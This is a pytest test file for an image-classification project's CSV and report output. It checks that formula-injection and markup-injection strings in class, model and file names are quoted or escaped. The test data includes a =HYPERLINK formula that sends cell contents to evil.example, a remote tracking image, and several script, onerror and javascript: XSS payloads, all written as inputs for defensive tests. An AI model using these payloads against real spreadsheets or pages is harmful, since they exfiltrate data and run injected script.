"""Hostile class, model and file names: never a spreadsheet formula in a CSV, never live HTML or Markdown in a report.

Names come from folder names, label files and configuration, so ``=HYPERLINK(...)`` or ``<img onerror=...>`` can be
one. CSVs are written through the project's catalog entries and read back raw; the Markdown report is rendered with
markdown-it (CommonMark plus GitHub tables, as GitHub and most viewers do) to see what a reader would get.
"""

from __future__ import annotations

import csv
import html
import re

import numpy as np
import pandas as pd
import pytest
from kedro.config import OmegaConfigLoader
from kedro.io import DataCatalog
from kedro.io.core import parse_dataset_definition
from markdown_it import MarkdownIt

from image_classification.datasets import AtomicCSVDataset
from image_classification.datasets.csv_file import neutralise_formula, restore_formula
from image_classification.pipelines.report import nodes
from image_classification.reporting.render import render_html, render_markdown
from image_classification.reporting.sections import Bullets, Section, Table
from tests.pipelines.report.test_nodes import evaluation, summary

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
    "'=already quoted",
]
HARMLESS = ["cat", "-0.5", "+3", "1e-3", "", "a=b", "'", "it's"]
HOSTILE_NAMES = [
    "<img src=x onerror=alert(1)>",
    "a|b",
    "[click](javascript:alert(1))",
    "![pixel](http://evil.example/x.png)",
    "*bold* _it_ `code` ~~gone~~",
    "# heading",
    "- item",
    "1. first",
    "back\\",
    "a\\|b",
    "&lt;",
]


def _catalog_config(project_root) -> dict:
    return OmegaConfigLoader(str(project_root / "conf"), default_run_env="local")["catalog"]


def _csv_entries(config: dict) -> dict[str, dict]:
    return {name: entry for name, entry in config.items() if str(entry.get("filepath", "")).endswith(".csv")}


def test_quoting_marks_every_formula_leaves_other_text_alone_and_round_trips():
    quoted = [neutralise_formula(text) for text in FORMULAS + HARMLESS]

    assert all(text.startswith("'") for text in quoted[: len(FORMULAS)])
    assert quoted[len(FORMULAS) :] == HARMLESS  # numbers written as text cannot run, nor can a later "="
    assert [restore_formula(text) for text in quoted] == FORMULAS + HARMLESS
    assert neutralise_formula(-0.5) == -0.5 and restore_formula(None) is None


def test_every_csv_the_catalogs_write_quotes_formulas(project_root):
    entries = _csv_entries(_catalog_config(project_root))

    assert {"validation_report", "predictions"} <= set(entries)
    for name, entry in entries.items():
        kind, options = parse_dataset_definition(dict(entry))
        assert issubclass(kind, AtomicCSVDataset), f"{name} writes CSV without quoting formulas"
        assert options.get("neutralise_formulas", True), name


@pytest.mark.parametrize("filename", ["classification_report.csv", "predictions.csv"])
def test_a_formula_label_is_text_in_the_csv_file_and_numbers_stay_numbers(
    filename, project_root, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    config = _catalog_config(project_root)
    pattern = next(name for name, entry in _csv_entries(config).items() if entry["filepath"].endswith(filename))
    name = re.sub(r"\{[^}]*\}", "a", pattern)
    labels = FORMULAS + [text for text in HARMLESS if text]  # pandas reads an empty cell as NaN, as always
    table = pd.DataFrame(
        {"class": labels, "=score": np.linspace(-0.5, 0.5, len(labels)), "support": range(-3, len(labels) - 3)}
    )

    catalog = DataCatalog.from_config(config)
    catalog.save(name, table)

    with open(catalog.get(name)._get_load_path(), newline="", encoding="utf-8") as stream:
        header, *rows = list(csv.reader(stream))
    assert header == ["class", "'=score", "support"]  # a header is a text cell too; no index column (save_args kept)
    for row, (label, score, support) in zip(rows, table.itertuples(index=False), strict=True):
        assert row[0] == (f"'{label}" if label in FORMULAS else label)
        assert float(row[1]) == pytest.approx(score) and int(row[2]) == support  # unquoted numbers
    assert rows[0][1] == "-0.5" and rows[0][2] == "-3"  # negative numbers are written as numbers
    loaded = DataCatalog.from_config(config).load(name)
    pd.testing.assert_frame_equal(loaded, table, check_dtype=False)  # and read back exactly as saved


def _rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


def _cells(page: str, tag: str) -> list[str]:
    return [html.unescape(text) for text in re.findall(rf"<{tag}(?:\s[^>]*)?>(.*?)</{tag}>", page, flags=re.DOTALL)]


def test_the_markdown_report_shows_hostile_class_and_model_names_as_plain_text():
    report_config: dict = {}  # the report's defaults
    labels = np.repeat(np.arange(len(HOSTILE_NAMES)), 2)
    model = "scratch.<script>alert(1)</script>"
    evaluations = {f"{model}.evaluation": evaluation(labels, labels, n_classes=len(HOSTILE_NAMES))}
    comparison = nodes.compare_models_node(**evaluations, **{f"{model}.training_summary": summary("scratch")})
    strategy_tests = nodes.compare_strategies_node(report_config, **evaluations)
    report = nodes.per_class_report(evaluations[f"{model}.evaluation"], HOSTILE_NAMES)

    markdown = nodes.report_markdown_node(
        comparison, strategy_tests, report_config, **{f"{model}.classification_report": report}
    )
    page = _rendered(markdown)

    assert not re.search(r"<(img|script|a|strong|em|code|del|h[3-6]|ol)\b", page)  # nothing came alive
    per_class_table = page.split("Per-class scores")[-1]
    assert _cells(per_class_table, "th") == ["Class", "Precision", "Recall", "F1", "Support"]
    assert _cells(per_class_table, "td")[::5] == HOSTILE_NAMES  # every name in its own cell, as it was
    assert f"<h2>Per-class scores: {html.escape(model)}</h2>" in page


def test_file_names_with_markup_stay_text_in_both_report_formats():
    files = ["<script>alert(1)</script>.jpg", "a|b.png", "[x](javascript:alert(1)).jpg", "two\nlines.jpg"]
    sections = [
        Section("Skipped files", (Bullets(files), Table(pd.DataFrame({"File": files, "Problem": ["unreadable"] * 4})))),
    ]

    markdown = render_markdown(sections, title="<b>T</b>")
    page = render_html(sections, title="<b>T</b>")

    rendered = _rendered(markdown)
    shown = [" ".join(name.split()) for name in files]  # a line break cannot end a list item or table row
    assert _cells(rendered, "li") == shown and _cells(rendered, "td")[::2] == shown
    assert "<script>" not in rendered and "<b>" not in rendered and "<a " not in rendered
    assert "<script>" not in page and "<b>" not in page and "&lt;script&gt;" in page
